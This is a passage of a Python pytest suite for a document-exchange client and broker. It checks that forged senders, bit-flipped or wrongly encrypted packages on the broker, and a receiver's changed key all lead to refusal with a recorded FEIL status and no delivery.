        receiver = reply["standardBusinessDocumentHeader"]["receiver"][0]["identifier"]["value"]
        assert receiver == f"0192:{world.a.number}"
    else:
        assert replies == [], "a file whose sender cannot be read or trusted gets no answer"


async def test_a_forged_sender_is_not_answered(world: World, report: Callable[..., None]) -> None:
    """A file whose SBD claims another sender than the broker saw: refused, but B answers
    nobody (else anyone could make B send FEIL to a third party)."""
    sbd = arkivmelding_sbd("910075918", world.b.number)  # claims to come from B itself
    hostile_id = _message_id(sbd)
    assert hostile_id is not None
    transfer_id = await world.put(sbd_zip(sbd))
    good_id = await send_good(world)
    await world.confirmed(transfer_id)
    copies = await arrived(world.b, good_id)
    report(scenario="hostile: forged sender", messages=1, lost=int(copies == 0),
           duplicated=max(copies - 1, 0), errors=0 if world.b.alive() else 1)
    assert copies == 1
    assert await world.answer(transfer_id, hostile_id) == []
    assert await incoming(world.b, hostile_id) == []


# --- end to end: A's own message, damaged on the broker, ends FEIL at A with B's reason ------


def _damage_package(path: Path, change: Callable[[bytes], bytes]) -> None:
    """Rewrite the broker's copy of ``sbd.zip`` with its package changed by ``change``, to its
    size (the broker announces the size it took at the upload)."""
    original = path.read_bytes()
    with zipfile.ZipFile(path) as archive:
        sbd_json = archive.read("sbd.json")
        package = change(archive.read("asic.zip"))
    members = (member("sbd.json", sbd_json), member("asic.zip", package, deflate=False))
    shorter = len(original) - len(raw_zip(*members))
    assert 0 <= shorter < 1 << 16, "the damaged file cannot keep the original's size"
    path.write_bytes(raw_zip(*members, comment=b" " * shorter))


def _flip_on_disk(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))


@pytest.mark.parametrize(
    ("damage", "reason"),
    [
        ("a bit flipped in the file", "CRC32IntegrityError"),
        ("a bit flipped in the package",
         "container"),
        ("the package replaced by one for another key", "not encrypted to"),
    ],
)
async def test_a_message_damaged_on_the_broker_ends_feil_at_the_sender(
    world: World, damage: str, reason: str, report: Callable[..., None]
) -> None:
    await world.b.stop()
    try:
        message_id = await send_good(world)
        deadline = time.monotonic() + WAIT
        while "SENDT" not in [s["status"] for s in await statuses(world.a, message_id)]:
            assert time.monotonic() < deadline, "A never sent it"
            await asyncio.sleep(0.1)
        ours = [
            path for path in world.storage.glob("*")
            if path.is_file() and _file_message_id(path) == message_id
        ]
        assert len(ours) == 1
        if damage == "a bit flipped in the file":
            _flip_on_disk(ours[0])
        elif damage == "a bit flipped in the package":
            _damage_package(ours[0], lambda package: _flip(package, len(package) // 2))
        else:
            _damage_package(ours[0], lambda package: sealed(
                world.keys[world.a.number], world.keys[world.a.number].certificate,
                {"arkivmelding.xml": ARKIVMELDING}))
    finally:
        await world.b.start()

    deadline = time.monotonic() + WAIT
    feil: list[dict[str, Any]] = []
    while not feil and time.monotonic() < deadline:
        feil = [s for s in await statuses(world.a, message_id) if s["status"] == "FEIL"]
        await asyncio.sleep(0.1)
    at_b = await incoming(world.b, message_id)
    report(scenario=f"hostile: {damage} on the broker", messages=1, lost=0 if feil else 1,
           duplicated=0, errors=0 if world.b.alive() else 1)
    assert feil, f"A's statuses: {await statuses(world.a, message_id)}"
    assert reason in feil[0]["description"], feil[0]
    assert f"refused by {world.b.number}" in feil[0]["description"]
    assert at_b == [], "B kept nothing of it"


def _file_message_id(path: Path) -> str | None:
    return _message_id(_file_sbd(path))


# --- at pop: a package that was sound when stored, but B's key changed since ------------------


def _key_pem(key: OrganisationKey) -> bytes:
    return key.private_key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    ) + pem(key.certificate, *key.chain)


async def test_a_package_b_can_no_longer_open_is_refused_at_pop_and_kept_visible(
    world: World, report: Callable[..., None]
) -> None:
    """B stored A's message, then its key was replaced (a new certificate). The client's pop
    cannot be answered with the package: it gets 404 FileNotFoundException for asic.zip, as
    from the original, and the message leaves the queue with FEIL and the reason registered
    (visible in /api/statuses), rather than blocking the queue or vanishing without a trace."""
    message_id = await send_good(world)
    assert await arrived(world.b, message_id) == 1
    key_file = Path(world.b.settings["organisation"]["key"])
    original = key_file.read_bytes()
    await world.b.stop()
    key_file.write_bytes(_key_pem(make_ca("a new CA").issue(world.b.number, "Sandkasse B")))
    try:
        await world.b.start()
        peek = await world.b.api.call("GET", "/api/messages/in/peek",
                                      params={"messageId": message_id})
        assert peek.status == 200, await peek.text()
        pop = await world.b.api.call("GET", f"/api/messages/in/pop/{message_id}")
        body = await pop.json()
        after = await incoming(world.b, message_id)
        feil = [s for s in await statuses(world.b, message_id) if s["status"] == "FEIL"]
        report(scenario="hostile: package unreadable at pop", messages=1, lost=0, duplicated=0,
               errors=int(pop.status >= 500))
        assert pop.status == 404, body
        assert body["exception"].endswith("FileNotFoundException")
        assert "asic.zip" in body["message"]
        assert after == []
        assert len(feil) == 1 and "not encrypted to" in feil[0]["description"], feil
    finally:
        await world.b.stop()
        key_file.write_bytes(original)
        await world.b.start()
